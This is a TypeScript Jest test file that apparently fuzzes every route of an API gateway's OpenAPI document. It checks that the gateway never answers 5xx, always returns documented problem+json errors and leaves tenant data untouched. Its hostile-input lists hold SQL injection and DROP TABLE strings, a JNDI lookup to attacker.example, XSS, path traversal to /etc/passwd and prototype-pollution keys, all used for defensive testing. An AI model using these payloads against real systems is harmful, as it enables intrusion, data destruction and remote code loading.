import { encodeCursor } from '@pac/http-contracts';
import { gatewayUrl, type GatewayClient } from '@pac/testing';
import { CannotBuildBody, validBody } from './support/bodies';
import {
  fetchOpenApi,
  operationsOf,
  resolve,
  type OpenApiDocument,
  type Operation,
  type Schema,
} from './support/openapi';
import { readEverything, settledSnapshot } from './support/snapshot';
import {
  createFixtures,
  createWorld,
  fillPath,
  parameterKeys,
  unfillable,
  type World,
} from './support/world';

jest.setTimeout(300_000);

/**
 * Fuzzing every operation of the gateway's own OpenAPI document with hostile input: wrong types, sizes,
 * encodings, NUL and other control characters, unicode, injection strings, deep nesting, forged cursors, bad
 * ids, prototype-polluting keys. Seeded and reproducible (FUZZ_SEED, FUZZ_CASES). Whatever is sent: never a
 * 5xx, every 4xx is problem+json with a `code` that the document lists, and partner A's data is exactly as
 * before.
 */
const SEED = Number(process.env['FUZZ_SEED'] ?? 20261204);
const CASES_PER_OPERATION = Number(process.env['FUZZ_CASES'] ?? 24);

interface FuzzCase {
  what: string;
  path: string;
  body?: unknown;
  /** Sent as these bytes, with content-type: application/json. */
  rawBody?: Buffer;
}

describe(`fuzzing every route of /openapi.json (seed ${SEED})`, () => {
  let document: OpenApiDocument;
  let operations: Operation[];
  let world: World;

  beforeAll(async () => {
    document = await fetchOpenApi(gatewayUrl());
    operations = operationsOf(document).filter((op) => !op.streams && unfillable([op.path]).length === 0);
    world = await createWorld(gatewayUrl(), 'Fuzz');
  });

  it('never answers 5xx, answers every 4xx as problem+json with a code, and changes nothing', async () => {
    await createFixtures(world, operations);
    const before = await settledSnapshot(world, operations);
    const random = seededRandom(SEED);
    const documented = new Set(
      Object.keys((document as { 'x-problem-codes'?: object })['x-problem-codes'] ?? {}),
    );
    const failures: string[] = [];
    let sent = 0;
    for (const op of operations) {
      const caller: GatewayClient = op.access === 'platform' ? world.platform : world.a.admin;
      const path = await fillPath(world, op.path);
      const base = op.body ? baseBody(document, op, world) : undefined;
      for (let i = 0; i < CASES_PER_OPERATION; i += 1) {
        const fuzz = fuzzCase(document, op, path, base, random);
        const answer = fuzz.rawBody
          ? await sendRaw(caller, op.method, fuzz.path, fuzz.rawBody)
          : await caller.send<unknown>(op.method, fuzz.path, fuzz.body);
        sent += 1;
        const wrong =
          op.method !== 'GET' && answer.status < 300
            ? `a hostile write was accepted: ${answer.status}`
            : wrongAnswer(answer.status, answer.headers.get('content-type'), answer.body);
        if (wrong) failures.push(`${op.name}, ${fuzz.what} (case ${i}): ${wrong}`);
        const code = (answer.body as { code?: unknown } | undefined)?.code;
        if (answer.status >= 400 && typeof code === 'string' && !documented.has(code))
          failures.push(
            `${op.name}, ${fuzz.what} (case ${i}): code ${code} is not in the document's x-problem-codes`,
          );
      }
    }
    const after = await readEverything(world, operations);
    console.log(
      `fuzz (seed ${SEED}): ${sent} requests over ${operations.length} operations, ${failures.length} wrong answers`,
    );
    expect(failures).toEqual([]);
    expect(after).toEqual(before);
    expect(operations.length).toBeGreaterThan(30);
  });
});

/** A valid body to mutate one field of; {} when the document's schema cannot produce one. */
function baseBody(document: OpenApiDocument, op: Operation, world: World): unknown {
  try {
    return validBody(document, op, world);
  } catch (error) {
    if (error instanceof CannotBuildBody) return {};
    throw error;
  }
}

function wrongAnswer(status: number, contentType: string | null, body: unknown): string | undefined {
  const got = `${status} ${JSON.stringify(body)?.slice(0, 200)}`;
  if (status >= 500) return `a 5xx: ${got}`;
  if (status < 400) return undefined;
  if (!(contentType ?? '').includes('application/problem+json'))
    return `a ${status} as ${contentType}: ${got}`;
  const code = (body as { code?: unknown } | undefined)?.code;
  return typeof code === 'string' && code.length > 0 ? undefined : `a ${status} without a code: ${got}`;
}

/** One hostile request for an operation: in a path parameter, a query parameter, a body field or the raw body. */
function fuzzCase(
  document: OpenApiDocument,
  op: Operation,
  path: string,
  base: unknown,
  random: () => number,
): FuzzCase {
  const kinds: Array<() => FuzzCase> = [() => queryCase(op, path, base, random)];
  if (op.pathParams.length > 0) kinds.push(() => pathCase(op, path, base, random));
  if (op.body) {
    kinds.push(() => bodyFieldCase(document, op.body!, path, base, random));
    kinds.push(() => bodyFieldCase(document, op.body!, path, base, random));
    kinds.push(() => rawBodyCase(path, base, random));
  }
  return pick(kinds, random)();
}

function pathCase(op: Operation, path: string, base: unknown, random: () => number): FuzzCase {
  const keys = parameterKeys(op.path);
  const index = Math.floor(random() * keys.length);
  const segments = path.split('/');
  const templateSegments = op.path.split('/');
  const position = templateSegments.findIndex((s) => s === keys[index]!.slice(keys[index]!.indexOf('/') + 1));
  const value = pick(HOSTILE_IDS, random);
  segments[position] = encodeForUrl(value);
  return { what: `path ${keys[index]} = ${printable(value)}`, path: segments.join('/'), body: base };
}

function queryCase(op: Operation, path: string, base: unknown, random: () => number): FuzzCase {
  const names = [...op.queryParams.map((p) => p.name), 'unexpectedParam'];
  const name = pick(names, random);
  const value =
    name === 'cursor' ? pick(FORGED_CURSORS, random) : pick([...HOSTILE_STRINGS, ...HOSTILE_QUERY], random);
  return {
    what: `query ${name} = ${printable(value)}`,
    path: `${path}?${encodeURIComponent(name)}=${encodeForUrl(value)}`,
    body: base,
  };
}

function bodyFieldCase(
  document: OpenApiDocument,
  schema: Schema,
  path: string,
  base: unknown,
  random: () => number,
): FuzzCase {
  const object = resolve(document, schema);
  const fields = Object.keys(object.properties ?? {});
  if (fields.length === 0 || !isRecord(base)) return rawBodyCase(path, base, random);
  const field = pick(fields, random);
  const property = resolve(document, object.properties![field]!);
  const value = pick(invalidValuesFor(property), random);
  return { what: `body ${field} = ${printable(value)}`, path, body: { ...base, [field]: value } };
}

function rawBodyCase(path: string, base: unknown, random: () => number): FuzzCase {
  const valid = JSON.stringify(base ?? {});
  const raw = pick(
    [
      {
        what: 'invalid UTF-8 bytes',
        bytes: Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe, 0xc0]), Buffer.from('"}')]),
      },
      // JSON may start with a byte order mark (RFC 8259 lets parsers ignore it): hostile only with a bad field.
      {
        what: 'a UTF-8 byte order mark before an unknown field',
        bytes: Buffer.concat([
          Buffer.from([0xef, 0xbb, 0xbf]),
          Buffer.from(`{"unexpectedField":1,${valid.slice(1)}`),
        ]),
      },
      { what: 'truncated JSON', bytes: Buffer.from(valid.slice(0, Math.max(1, valid.length - 2))) },
      { what: 'a JSON array', bytes: Buffer.from('[]') },
      { what: 'JSON null', bytes: Buffer.from('null') },
      { what: 'a JSON string', bytes: Buffer.from('"text"') },
      { what: 'a JSON number', bytes: Buffer.from('1e309') },
      { what: 'an empty body', bytes: Buffer.alloc(0) },
      { what: 'a __proto__ key', bytes: Buffer.from(`{"__proto__":{"isAdmin":true},${valid.slice(1)}`) },
      {
        what: 'a constructor.prototype key',
        bytes: Buffer.from(`{"constructor":{"prototype":{"x":1}},${valid.slice(1)}`),
      },
      {
        what: '40 levels of nesting',
        bytes: Buffer.from(`{"deep":${'['.repeat(40)}${']'.repeat(40)},${valid.slice(1)}`),
      },
      {
        what: 'duplicate keys, the second one hostile',
        bytes: Buffer.from(`${valid.slice(0, -1)}${valid.length > 2 ? ',' : ''}"name":"a\\u0000b"}`),
      },
    ],
    random,
  );
  return { what: `raw body: ${raw.what}`, path, rawBody: raw.bytes };
}

/** Values no field of this schema may take. */
function invalidValuesFor(schema: Schema): unknown[] {
  const nested = (depth: number) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown;
  const common = [nested(40), { $ne: null }, ['a\u0000b']];
  switch (schema.type) {
    case 'string':
      return [
        ...common,
        'a\u0000b',
        'x'.repeat((schema.maxLength ?? 10_000) + 1),
        12345,
        true,
        {},
        ...(schema.enum ? ['not-one-of-them', 'PRODUCTION'] : []),
      ];
    case 'integer':
    case 'number':
      return [
        ...common,
        'a\u0000b',
        '1',
        1e300,
        -1e300,
        ...(schema.type === 'integer' ? [0.5] : []),
        {},
        true,
      ];
    case 'boolean':
      return [...common, 'true', 1, 'a\u0000b', {}];
    case 'array':
      return [
        ...common.slice(0, 2),
        'a\u0000b',
        {},
        1,
        Array.from({ length: (schema.maxItems ?? 1_000) + 1 }, () => 'x'),
      ];
    default:
      return [...common, 'a\u0000b', 1, true, []];
  }
}

const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE tenant.tenants; --',
  '${jndi:ldap://attacker.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '%252e%252e%252f',
];
const HOSTILE_STRINGS = [
  ...INJECTIONS,
  'a\u0000b',
  '\u0001\u001f\u007f',
  'Ünïcödé 東京 🚀 \u202e',
  '\ud83d',
  ' ',
  'x'.repeat(5_000),
];
/** Already percent-encoded: invalid UTF-8, an overlong dot, an encoded NUL. */
const RAW_ENCODED = ['raw:%FF%FE', 'raw:%C0%AE%C0%AE', 'raw:%00', 'raw:%E2%80'];
const HOSTILE_QUERY = [...RAW_ENCODED, '-1', '0', '1e300', '9007199254740993', 'NaN', 'true', '[]', '{}', ''];
const HOSTILE_IDS = [
  ...INJECTIONS,
  'not-a-uuid',
  randomUUIDOf(7),
  '00000000-0000-0000-0000-000000000000',
  'a\u0000b',
  'Ünïcödé',
  'x'.repeat(120),
  'x'.repeat(2_000),
  '.',
  '..',
  ...RAW_ENCODED,
];
const FORGED_CURSORS = [
  encodeCursor(['2026-02-30T00:00:00.000Z', randomUUIDOf(1)]),
  encodeCursor(['0000-01-01T00:00:00.000Z', randomUUIDOf(2)]),
  encodeCursor([1e300, 'x']),
  encodeCursor([1.5, 'x']),
  encodeCursor(['2026-01-01T00:00:00.000Z', 'a\u0000b']),
  encodeCursor(["' OR 1=1 --", randomUUIDOf(3)]),
  Buffer.from('{"a":1}').toString('base64url'),
  Buffer.from('[[[[[[[[[[]]]]]]]]]]').toString('base64url'),
  'not base64 !',
  'x'.repeat(3_000),
];

/**
 * Percent-encodes a value for a path or query; a value that no UTF-8 can carry (a lone surrogate) goes as the
 * invalid bytes a careless client would send. `raw:` values are sent as they are (already percent-encoded).
 */
function encodeForUrl(value: string): string {
  if (value.startsWith('raw:')) return value.slice(4);
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%BD';
  }
}

/** A fixed, well-formed UUID that names nothing: the case list is the same on every run. */
function randomUUIDOf(n: number): string {
  return `${String(n).padStart(8, '0')}-0000-4000-8000-000000000000`;
}

/** mulberry32: small, fast and the same on every machine for a given seed. */
function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

function pick<T>(values: readonly T[], random: () => number): T {
  return values[Math.floor(random() * values.length)]!;
}

function printable(value: unknown): string {
  return JSON.stringify(value)?.slice(0, 60) ?? String(value);
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

async function sendRaw(
  caller: GatewayClient,
  method: string,
  path: string,
  bytes: Buffer,
): Promise<{ status: number; headers: Headers; body: unknown }> {
  const response = await caller.raw(method, path, { 'content-type': 'application/json' }, bytes);
  const text = await response.text();
  let body: unknown = text;
  try {
    body = text ? JSON.parse(text) : undefined;
  } catch {
    // not JSON: reported as it is
  }
  return { status: response.status, headers: response.headers, body };
}
